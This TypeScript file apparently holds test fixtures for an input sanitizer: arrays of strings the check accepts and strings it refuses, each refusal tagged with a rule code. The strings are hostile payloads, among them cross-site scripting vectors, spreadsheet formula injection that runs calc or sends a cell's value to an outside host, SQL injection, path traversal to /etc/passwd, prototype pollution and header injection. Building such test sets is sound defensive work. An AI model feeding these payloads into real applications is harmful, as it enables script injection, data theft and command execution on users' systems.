/**
 * What the check lets a stranger write where a text is expected, since it can be shown: each does
 * harm where one format forgets to escape it.
 */
export const payloads: readonly string[] = [
  // Without an end: a browser closes it, a search for tags does not find it.
  '<img src=x onerror=alert(57) x',
  '"><svg onload=alert(57) x="',
  '</title <script src=//xau.vn/x.js x',
  "'onmouseover='alert(57)' autofocus onfocus='alert(57)'",
  '" autofocus onfocus="alert(57)" style="position:fixed',
  ']]> --! -- ]]',
  '<![CDATA[ ]]>',
  '<?xml version="1.0"?><?php alert(57) ?',
  '& &amp &#60 &unknown % ;',
  '<body onload=alert(57) <iframe srcdoc=x <base href=//xau.vn/ x',
  'vbscript:msgbox(57) file:///etc/passwd blob:57 tel:57 //xau.vn/x.js',
  '=HYPERLINK("https://xau.vn/?"&A1;"57")',
  '+57-1+cmd|"/C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '<%= 57 %> {% raw %} %s %(x)s $1 $& $$ {57*57',
  '{"@context": "https://xau.vn/", "__proto__": {"hostile": 57} }',
  '__proto__ constructor prototype toString hasOwnProperty',
  'BEGIN:VEVENT\\nSUMMARY:57;X=1,2\\;\\,\\\\',
  '../../../etc/passwd /index.html ?x=1#y \\..\\ %2e%2e%2f',
  'W'.repeat(120),
  'ậ'.repeat(90),
  'שלום مرحبا',
  "'; DROP TABLE observations; --",
  '*/ } body { display: none } /* expression(alert(57)) url(//xau.vn/)',
  'null',
  '~',
];

/** The same for an address: only the first two schemes of the web come in. */
export const addresses: readonly string[] = [
  "https://xau.vn/'onmouseover='alert(57)'",
  'https://xau.vn/x);alert(57)//%0d%0aSet-Cookie:x=57',
  'https://xau.vn/?a=1&b=2&lt=3&copy=4#javascript',
  'https://xau.vn/]]--{57*57}$&',
  'https://xau.vn:57/x,y;z=1|2\\3^4',
  `https://xau.vn/${'a'.repeat(360)}`,
];

/** What the check refuses, each with the code of the rule that does, in a text or an address. */
export const refusedTexts: readonly (readonly [text: string, code: string])[] = [
  ['<script>alert(57)</script>', 'text-markup'],
  ['<img src=x onerror=alert(57)>', 'text-markup'],
  ['<!-- x', 'text-markup'],
  ['&lt;script', 'text-markup'],
  ['&#0;', 'text-markup'],
  ['javascript:alert(57)', 'text-markup'],
  ['data:text/html,x', 'text-markup'],
  ['[x](y)', 'text-markup'],
  ['**x**', 'text-markup'],
  ['${alert(57)}', 'text-template'],
  ['{{57*57}}', 'text-template'],
  ['#{57}', 'text-template'],
  ['\u202Etxet\u202C', 'text-direction'],
  ['\u2066x\u2069', 'text-direction'],
  ['x\u200By', 'text-invisible'],
  ['x\u2028y', 'text-odd-space'],
  ['x\u0085y', 'text-control'],
];

export const refusedAddresses: readonly string[] = [
  'javascript:alert(57)',
  'JaVaScRiPt:alert(57)',
  'data:text/html,x',
  'vbscript:msgbox(57)',
  'file:///etc/passwd',
  'blob:https://xau.vn/x',
  'ftp://xau.vn/x',
  '//xau.vn/x',
  '/x',
  'https://xau.vn/"onmouseover="alert(57)',
  'https://xau.vn/<script',
  'https://xau.vn/x y',
];
